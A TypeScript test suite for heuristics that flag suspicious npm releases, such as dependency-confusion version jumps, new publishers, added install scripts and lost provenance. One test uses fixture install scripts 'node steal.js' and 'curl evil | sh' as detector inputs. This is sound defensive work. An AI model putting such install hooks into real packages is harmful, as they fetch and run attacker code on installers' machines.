// Signals in a version history: security holders, implausible jumps, new
// publishers, new install scripts, lost provenance.

import { suite } from 'uvu'
import * as assert from 'uvu/assert'
import type { VersionFacts } from '../../lib/model/rule.js'
import {
  changedInstallScripts,
  earlierVersions,
  installScripts,
  isSecurityHolder,
  hasCredibleTimes,
  lineage,
  newInstallScript,
  recentOfLine,
  suspiciousVersionJump,
  trustDowngrade,
  versionSkip,
} from '../../lib/heuristics/version-signals.js'
import { highestEarlier, history, predecessor, previousRelease } from '../../lib/rules/version-history.js'

function facts(version: string, extra: Partial<VersionFacts> = {}): VersionFacts {
  return {
    version,
    publishedAt: null,
    publisher: 'alice',
    scripts: {},
    hasProvenance: false,
    hasTrustedPublisher: false,
    deprecated: null,
    ...extra,
  }
}

const signals = suite('version-signals')

signals('isSecurityHolder', () => {
  assert.ok(isSecurityHolder('0.0.1-security'))
  assert.ok(isSecurityHolder('0.0.1-security.0'))
  assert.ok(isSecurityHolder('1.0.0', 'security holding package'))
  assert.ok(isSecurityHolder('1.0.0', 'Security Holding Package for crossenv'))
  assert.not.ok(isSecurityHolder('0.0.1'))
  assert.not.ok(isSecurityHolder('1.0.0-securityfix'))
  assert.not.ok(isSecurityHolder('1.0.0', 'a security tool'))
  assert.not.ok(isSecurityHolder('1.0.0', null))
})

signals('suspiciousVersionJump: dependency-confusion shapes', () => {
  const cases: Array<[string, string[], ReturnType<typeof suspiciousVersionJump>]> = [
    ['99.0.0', ['1.0.0', '1.2.3'], { from: '1.2.3', to: '99.0.0', reason: 'major-jump-to-99' }],
    ['100.1.0', ['4.17.21'], { from: '4.17.21', to: '100.1.0', reason: 'major-jump-to-99' }],
    ['60.0.0', ['1.0.0', '5.9.0'], { from: '5.9.0', to: '60.0.0', reason: 'major-jump-tenfold' }],
    ['50.0.0', ['0.3.0'], { from: '0.3.0', to: '50.0.0', reason: 'major-jump-tenfold' }],
    ['9.9.9', ['1.0.0'], { from: '1.0.0', to: '9.9.9', reason: 'nines-placeholder' }],
    ['99.99.99', ['98.0.0'], { from: '98.0.0', to: '99.99.99', reason: 'nines-placeholder' }],
    ['99.0.0', ['49.2.0'], { from: '49.2.0', to: '99.0.0', reason: 'major-jump-to-99' }],
    ['999.0.0', ['120.0.0'], { from: '120.0.0', to: '999.0.0', reason: 'major-jump-to-99' }],
    ['999.1.0', ['500.0.0'], { from: '500.0.0', to: '999.1.0', reason: 'nines-placeholder' }],
    ['99.0.0', [], { from: null, to: '99.0.0', reason: 'first-release-at-99' }],
    ['9.9.9', [], null],
    ['1.0.0', [], null],
  ]
  for (const [version, previous, expected] of cases) {
    assert.equal(suspiciousVersionJump(version, previous), expected, `${version} after ${previous.join(', ')}`)
  }
})

signals('suspiciousVersionJump: ordinary releases', () => {
  const cases: Array<[string, string[]]> = [
    ['2.0.0', ['1.9.9']],
    ['120.0.0', ['119.0.1']], // browser-versioned packages (chromedriver)
    ['49.0.0', ['4.0.0']], // tenfold but below 50
    ['60.0.0', ['7.0.0']], // above 50 but less than tenfold
    ['9.9.9', ['9.9.8']], // a nines shape reached by releasing
    ['1.0.0', ['99.0.0']], // not above the previous
    ['99.0.0', ['99.0.0', '98.0.0']], // the version itself in the list; 98 → 99 is a step
    ['99.0.0', ['50.0.0']],
    ['not-semver', ['1.0.0']],
  ]
  for (const [version, previous] of cases) {
    assert.is(suspiciousVersionJump(version, previous), null, `${version} after ${previous.join(', ')}`)
  }
})

signals('lineage: the publisher is compared with the recent releases of its line and of the package', () => {
  const history = [facts('1.0.0', { publisher: 'alice' }), facts('1.1.0', { publisher: 'bob' }), facts('1.2.0', { publisher: null })]
  assert.is(lineage(facts('1.3.0', { publisher: 'mallory' }), history).publisher, 'new')
  assert.equal(lineage(facts('1.3.0', { publisher: 'mallory' }), history).recentPublishers, ['bob', 'alice'])
  assert.is(lineage(facts('1.3.0', { publisher: 'alice' }), history).publisher, 'same')
  assert.is(lineage(facts('1.3.0', { publisher: null }), history).publisher, 'unknown', 'unknown publisher')
  assert.is(lineage(facts('1.0.0', { publisher: 'mallory' }), []).publisher, 'unknown', 'first version')
  assert.is(lineage(facts('1.3.0', { publisher: 'mallory' }), [facts('1.0.0', { publisher: null })]).publisher, 'unknown', 'no earlier publisher known')
})

signals('recentOfLine: the same major, the last 10 and any of the last year; a new major continues the line before it', () => {
  const at = (daysAgo: number) => new Date(Date.parse('2026-01-01T00:00:00Z') - daysAgo * 86_400_000)
  const old = Array.from({ length: 12 }, (_, index) => facts(`1.${index}.0`, { publishedAt: at(2000 - index * 10) }))
  const two = [facts('2.0.0', { publishedAt: at(300) }), facts('2.1.0', { publishedAt: at(200) })]
  const versions = (list: VersionFacts[]) => list.map((entry) => entry.version)
  assert.equal(versions(recentOfLine(facts('1.12.0', { publishedAt: at(1) }), [...old, ...two])), versions(old.slice(2)), 'a backport: its own line, the last 10')
  assert.equal(versions(recentOfLine(facts('2.2.0', { publishedAt: at(1) }), [...old, ...two])), ['2.0.0', '2.1.0'])
  assert.equal(versions(recentOfLine(facts('2.0.0', { publishedAt: at(1) }), old)), versions(old.slice(2)), 'a first 2.0.0 is compared with 1.x')
  const busy = Array.from({ length: 30 }, (_, index) => facts(`3.0.${index}`, { publishedAt: at(300 - index * 10) }))
  assert.is(recentOfLine(facts('3.0.30', { publishedAt: at(0) }), busy).length, 30, 'every release of the last year')
})

signals('hasCredibleTimes: publish times that follow version order within each line', () => {
  const at = (day: number) => new Date(Date.UTC(2020, 0, 1 + day))
  const ordered = Array.from({ length: 8 }, (_, index) => facts(`1.${index}.0`, { publishedAt: at(index * 10) }))
  assert.ok(hasCredibleTimes(ordered))
  assert.ok(hasCredibleTimes([...ordered, facts('0.9.9', { publishedAt: at(200) })]), 'a backport on another line')
  const shuffled = [5, 90, 30, 70, 60, 10, 80, 20].map((day, index) => facts(`1.${index}.0`, { publishedAt: at(day) }))
  assert.not.ok(hasCredibleTimes(shuffled))
  assert.not.ok(hasCredibleTimes(ordered.slice(0, 3)), 'too few to tell')
})

signals('versionSkip: numbers releasing does not produce', () => {
  assert.match(versionSkip('1.3.9', '1.2.9') ?? '', /new minor at patch 9/)
  assert.match(versionSkip('2.3.9', '1.3.9') ?? '', /new major at 3\.9/)
  assert.match(versionSkip('3.1.3', '3.0.1') ?? '', /new minor at patch 3/)
  assert.match(versionSkip('9.0.0', '5.1.0') ?? '', /skips 3 majors/)
  for (const [version, previous] of [['1.2.4', '1.2.3'], ['1.3.0', '1.2.3'], ['2.0.0', '1.9.9'], ['7.3.0', '7.1.0'], ['1.2.6', '1.2.3'], ['1.3.1', '1.2.3'], ['2.0.0-rc.5', '1.0.0'], ['1.0.0', '1.0.1']]) {
    assert.is(versionSkip(version, previous), null, `${previous} → ${version}`)
  }
})

signals('newInstallScript and changedInstallScripts', () => {
  const before = facts('1.0.0', { scripts: { test: 'node test', install: 'node-gyp rebuild' } })
  const after = facts('1.0.1', { scripts: { test: 'node test', install: 'node-gyp rebuild', postinstall: 'node steal.js', prepare: 'husky' } })
  assert.equal(newInstallScript(after, before), ['postinstall'])
  assert.equal(newInstallScript(before, before), [])
  assert.equal(newInstallScript(after, null), [], 'a first release adds nothing')
  assert.equal(newInstallScript(facts('2.0.0', { scripts: { preinstall: '  ' } }), before), [], 'blank scripts do not count')
  assert.equal(changedInstallScripts(facts('1.0.2', { scripts: { install: 'curl evil | sh' } }), before), ['install'])
  assert.equal(changedInstallScripts(after, before), [])
  assert.equal(installScripts(after), ['install', 'postinstall'])
})

signals('trustDowngrade', () => {
  const history = [
    facts('1.0.0'),
    facts('1.1.0', { hasProvenance: true, hasTrustedPublisher: true }),
    facts('1.2.0', { hasProvenance: true }),
  ]
  assert.equal(trustDowngrade(facts('1.3.0'), history), [
    { signal: 'provenance', lastVersionWith: '1.2.0', versionsWithoutSince: 0 },
    { signal: 'trusted-publisher', lastVersionWith: '1.1.0', versionsWithoutSince: 1 },
  ])
  assert.equal(trustDowngrade(facts('1.3.0', { hasProvenance: true, hasTrustedPublisher: true }), history), [])
  assert.equal(trustDowngrade(facts('1.3.0', { hasProvenance: true }), history).map((downgrade) => downgrade.signal), ['trusted-publisher'])
  assert.equal(trustDowngrade(facts('1.0.1'), [facts('1.0.0')]), [], 'never had it')
  assert.equal(trustDowngrade(facts('1.0.0'), []), [])
})

signals('earlierVersions by publish time, or by list order when times are missing', () => {
  const at = (iso: string) => new Date(iso)
  const all = [
    facts('1.0.0', { publishedAt: at('2024-01-01') }),
    facts('2.0.0', { publishedAt: at('2024-03-01') }),
    facts('1.0.1', { publishedAt: at('2024-04-01') }), // a backport after 2.0.0
    facts('2.1.0', { publishedAt: at('2024-05-01') }),
  ]
  assert.equal(earlierVersions(all[2], all).map((item) => item.version), ['1.0.0', '2.0.0'])
  assert.equal(earlierVersions(all[0], all), [])
  const untimed = all.map((item) => ({ ...item, publishedAt: null }))
  assert.equal(earlierVersions(untimed[2], untimed).map((item) => item.version), ['1.0.0', '2.0.0'])
})

signals('history: the same earlier versions, highest earlier version and predecessor as walking the history (ties, build metadata, prereleases, backports, missing times)', () => {
  let seed = 7
  const next = (n: number) => {
    seed = (seed * 1103515245 + 12345) % 2 ** 31
    return seed % n
  }
  const shapes = [(index: number) => `${next(4)}.${next(3)}.0+b${index}`, (index: number) => `${next(4)}.${next(2)}.${index}`, (index: number) => `${next(3)}.0.0-rc.${index}`, (index: number) => `not-semver-${index}`]
  for (let round = 0; round < 300; round++) {
    const count = 1 + next(40)
    const list = Array.from({ length: count }, (_, index) => facts(shapes[next(shapes.length)](index), { publishedAt: new Date(Date.UTC(2024, 0, 1 + next(30))) }))
    // As packument summaries are: in publish order; some rounds keep a missing time or the raw order.
    if (round % 3 !== 0) list.sort((a, b) => a.publishedAt!.getTime() - b.publishedAt!.getTime())
    if (round % 5 === 0) list[next(count)].publishedAt = null
    for (const current of list) {
      const expected = earlierVersions(current, list)
      const known = history({ status: 'known', version: current, versions: list })!
      const where = `round ${round}, ${current.version} in ${list.map((item) => item.version).join(' ')}`
      assert.equal(known.earlier.map((item) => item.version), expected.map((item) => item.version), where)
      assert.is(previousRelease(known)?.version, predecessor(current, expected)?.version, `predecessor: ${where}`)
      const jump = suspiciousVersionJump('999.0.0', expected.map((item) => item.version))
      assert.is(highestEarlier(known)?.version ?? 'none', jump?.from ?? 'none', `highest: ${where}`)
    }
  }
})

signals.run()
